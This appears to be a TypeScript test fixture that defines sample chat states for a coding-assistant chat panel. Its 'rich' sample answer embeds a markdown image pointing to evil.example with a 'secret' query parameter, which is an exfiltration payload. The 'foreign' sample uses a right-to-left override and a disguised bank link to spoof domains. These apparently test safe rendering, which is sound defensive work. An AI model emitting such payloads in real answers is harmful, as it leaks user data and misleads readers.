import { PNG } from 'pngjs';
import type { Answer, AnswerBlock, ChatSnapshot, Turn } from '../../src/protocol/chat';
import type { WireError } from '../../src/protocol/wire';
import { emptySnapshot } from './chatHost';

const model = 'Qwen/Qwen3-Coder-30B-A3B-Instruct';
const askedAt = Date.UTC(2026, 10, 20, 12, 4);

export function turn(question: string, answer: Partial<Answer>, id = question): Turn {
  return { id, question, askedAt, answer: { state: 'done', model, blocks: [], ...answer } };
}

const text = (value: string): AnswerBlock => ({ kind: 'text', text: value });

const loops = `It allocates a string per byte. Compare the two:

\`\`\`ts
// counts lines in place
for (const byte of chunk) {
  if (byte === 0x0a) lines++;
}
\`\`\`

- no slice, no decode
- one comparison per byte

See [the notes](https://v8.dev/blog/fast-properties) or https://example.com/loops for more.`;

const rich = `# What changed

A **rate limit** counts \`tokens\` per minute. ![chart](https://evil.example/p.png?d=secret) It is shared by all keys.

| limit | kind | per minute |
|:------|:----:|-----------:|
| RPM | requests | 1,000 |
| TPM | tokens | 50,000 |

1. Wait for the *minute* to pass
2. Ask with fewer tokens
   - a shorter prompt
   - a smaller \`max_tokens\`

> A quote, as the service words it.

\`\`\`python
def merge(a: list[int], b: list[int]) -> list[int]:
    """Merges two sorted lists."""
    result, i = [], 0
    return sorted(a + b)  # 2 lines too long for a narrow sidebar, so it scrolls by itself
\`\`\`

---

\`\`\`
plain text
\`\`\``;

export const formulas = String.raw`The roots of $ax^2 + bx + c = 0$ with $a \ne 0$ are

$$x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}$$

which follows by completing the square:

\[
\begin{align}
x^2 + \frac{b}{a}x &= -\frac{c}{a} \\
\left(x + \frac{b}{2a}\right)^2 &= \frac{b^2 - 4ac}{4a^2} \tag{1}
\end{align}
\]

1. A matrix \(A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}\) has $\det A = -2$.
2. The sum is $\sum_{i=1}^{n} i = \frac{n(n+1)}{2}$, the integral $\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}$.
3. By cases, $$|x| = \begin{cases} x & \text{if } x \ge 0 \\ -x & \text{otherwise} \end{cases}$$

| name | formula |
|---|---|
| norm | $\lVert \vec{v} \rVert = \sqrt{\sum_k v_k^2}$ |
| limit | $\lim_{n\to\infty} \bigl(1 + \tfrac1n\bigr)^n = e$ |

What is wide is scrolled: $$\boxed{P(A \mid B) = \frac{P(B \mid A)\,P(A)}{P(B \mid A)\,P(A) + P(B \mid \lnot A)\,P(\lnot A)}} \quad \forall\, A, B \in \mathcal{F} : P(B) > 0$$

What cannot be read stands as it came, $\unknown{x}$, and a price of $5 or $10 is one.`;

const foreign = `## كيف يعمل الحد؟

هذا نص عربي مع كلمة English في الوسط و\`code\`.

- عنصر أول
- عنصر ثانٍ

这是一个没有空格的很长的中文段落，用来检查换行是否正确，以及标点符号是否会出现在行首。

\`averyveryverylongidentifierwithoutanyspacetobreakatwhichwouldpushthelayoutwide\` and https://example.com/a/very/long/path/without/any/space/that/would/push/the/layout/wide/index.html

| کلمه | ${'wide cell without end '.repeat(8)} |
|---|---|
| a | b |

Paid to \u202Egro.live\u202C today. [bank\u200B.example](https://other.example/x) 😀🎉`;

const rateLimit = {
  kind: 'rateLimit',
  title: 'Tokens per minute used up for this model',
  detail: 'The service counts tokens over the last minute. It answers again in about 23 s.',
  actions: [
    { id: 'retry', label: 'Try again' },
    { id: 'chooseModel', label: 'Choose Another Model' },
    { id: 'showExchange:7', label: 'Show Request and Response' },
  ],
};

const done: Partial<Answer> = {
  stopReason: 'end_turn',
  usage: { inputTokens: 1310, outputTokens: 214 },
  firstTokenMs: 412,
  totalMs: 3920,
};

/** Returns a conversation of this many turns, from `turn 0`. */
export function talkOf(count: number): readonly Turn[] {
  const questions = [
    'Why is the second loop slower?',
    'Then why is it used at all, if it allocates a string per byte?',
  ];
  return Array.from({ length: count }, (_, index) =>
    turn(
      `${questions[index % 2]} (${index})`,
      { ...done, blocks: [text('It allocates a string per byte.')] },
      `turn ${index}`,
    ),
  );
}

/** An error of the disk, with its actions. */
export const unsaved = (title: string): WireError => ({
  kind: 'unsaved',
  title,
  detail:
    'No space left on the disk. Free up some space, then try again. Unsaved text is lost when this window closes.',
  actions: [
    { id: 'saveUnsaved', label: 'Save' },
    { id: 'copyUnsaved', label: 'Copy' },
    { id: 'exportUnsaved', label: 'Export…' },
  ],
});

/** Returns a small drawing as a data URL. */
function drawnImage(): string {
  const image = new PNG({ width: 120, height: 80 });
  for (let at = 0; at < image.data.length; at += 4) {
    image.data.set([((at / 4) % 120) * 2, Math.floor(at / 480) * 3, 120, 255], at);
  }
  return `data:image/png;base64,${PNG.sync.write(image).toString('base64')}`;
}

/** Every state of the page, by name. */
export const chatStates: Readonly<Record<string, ChatSnapshot | 'never'>> = {
  loading: 'never',
  signedOut: emptySnapshot({ account: 'signedOut', models: [], modelsState: 'unknown' }),
  empty: emptySnapshot(),
  talk: emptySnapshot({
    turns: [
      turn('Why is the second loop slower?', {
        ...done,
        blocks: [{ kind: 'thinking', text: 'The first decodes.\nThe second does not.' }, text(loops)],
      }),
    ],
    draft: 'And in Rust?',
  }),
  rich: emptySnapshot({
    turns: [turn('Explain the limits', { ...done, stopReason: 'max_tokens', blocks: [text(rich)] })],
  }),
  formulas: emptySnapshot({ turns: [turn('Show some formulas', { ...done, blocks: [text(formulas)] })] }),
  foreign: emptySnapshot({
    turns: [
      turn('ما هو حد المعدل؟', {
        ...done,
        model: `vendor/${'a-very-long-model-name-'.repeat(9)}`,
        blocks: [text(foreign)],
      }),
    ],
    model: `vendor/${'a-very-long-model-name-'.repeat(9)}`,
  }),
  sources: emptySnapshot({
    turns: [
      turn('How high is the tower?', {
        ...done,
        blocks: [text('It is **330 m** high [1], and was painted anew in 2022 [2][3]. `[1]` in code stays.')],
        citations: [
          { url: 'https://tower.example/facts', title: 'Facts and figures about the tower' },
          { url: 'https://paint.example/2022/a/very/long/path/without/any/space/that/would/push/the/layout/wide' },
          { title: 'Notes of the painters' },
        ],
      }),
      turn('Draw it', {
        ...done,
        blocks: [
          text('Here you are:'),
          { kind: 'image', text: 'a tower', source: drawnImage() },
          { kind: 'image', text: '', source: 'https://pictures.example/a.png' },
        ],
      }),
    ],
  }),
  unanswered: emptySnapshot({
    turns: [
      turn('What time is it in Oslo?', {
        ...done,
        unreadCall: true,
        blocks: [text('<tool_call>\n{"name": "time_in", "arguments": {"city": "Oslo"}}\n</tool_call>')],
      }),
      turn('And in Lima?', {
        ...done,
        state: 'failed',
        canContinue: true,
        error: {
          kind: 'thoughtOnly',
          title: "The model didn't answer",
          detail: 'Only reasoning was received. Continue the response.',
          actions: [{ id: 'retry', label: 'Try again' }],
        },
        blocks: [{ kind: 'thinking', text: 'The person wants the time in Lima.' }],
      }),
    ],
  }),
  waiting: emptySnapshot({ turns: [turn('Why is the second loop slower?', { state: 'waiting' })] }),
  limited: emptySnapshot({
    turns: [
      turn('Why is the second loop slower?', {
        ...done,
        exchangeId: 'e1',
        blocks: [text('It allocates a string per byte.')],
      }),
      turn('Then why is it used?', {
        state: 'waiting',
        // Long enough to last until the last theme is rendered.
        wait: { title: 'Tokens per minute are used up for this model', until: Date.now() + 12 * 3_600_000 },
      }),
    ],
  }),
  streaming: emptySnapshot({
    turns: [
      turn('Why is the second loop slower?', {
        state: 'streaming',
        blocks: [{ kind: 'thinking', text: 'Hm.' }, text(loops.slice(0, 120))],
      }),
    ],
    draft: 'Next question',
  }),
  queued: emptySnapshot({
    turns: [turn('Why is the second loop slower?', { state: 'streaming', blocks: [text(loops.slice(0, 120))] })],
    queued: [
      {
        id: 'q0',
        text: 'Then use the first one in this file, please',
        attachments: [{ id: '0', kind: 'file', label: 'src/core/text/decodeLines.ts', characters: 900, tokens: 300 }],
        isAutomatic: true,
      },
      {
        id: 'q1',
        text: 'And measure it',
        attachments: [],
        isAutomatic: false,
        error: {
          kind: 'accountChanged',
          title: 'You switched accounts',
          detail: 'This message was written to Work. Send it to Home, or remove it.',
          actions: [],
        },
      },
    ],
    draft: 'One more',
  }),
  unsaved: emptySnapshot({
    turns: [turn('Explain the limits', { state: 'streaming', blocks: [text(rich)] })],
    unsaved: unsaved("The response isn't saved"),
  }),
  failed: emptySnapshot({
    turns: [
      turn('Is the second loop slower?', {
        state: 'failed',
        blocks: [],
        error: { ...rateLimit, actions: [] },
        omitted: true,
      }),
      turn('Why is the second loop slower?', { ...done, blocks: [text('It allocates a string per byte.')] }),
      turn('Then why is it used?', { state: 'failed', blocks: [text('Because it is shorter to')], error: rateLimit }),
    ],
  }),
  interrupted: emptySnapshot({
    turns: [
      turn('Which tool is it?', {
        ...done,
        stopReason: 'tool_use',
        blocks: [text('I look it up.'), { kind: 'toolUse', name: 'get_weather', text: '{\n  "city": "Paris"\n}' }],
      }),
      turn('Stop here', { ...done, state: 'stopped', blocks: [text('One, two,')] }),
      turn('And now?', { state: 'interrupted', blocks: [text('Half an ans')] }),
    ],
  }),
  modelsFailed: emptySnapshot({
    models: [],
    modelsState: 'failed',
    modelsError: {
      kind: 'network',
      title: 'The service could not be reached',
      detail: 'api.siliconflow.com was not found. Check the connection, or the proxy in the settings.',
      actions: [{ id: 'proxySetting', label: 'Open Proxy Setting' }],
    },
  }),
  noModels: emptySnapshot({ models: [] }),
  folded: emptySnapshot({
    turns: talkOf(9),
    compaction: { limit: 10, messages: 9, startTurnId: 'turn 2', compacted: 3 },
  }),
  signedOutTalk: emptySnapshot({
    account: 'signedOut',
    turns: [turn('Why is the second loop slower?', { ...done, blocks: [text('It allocates a string per byte.')] })],
  }),
};
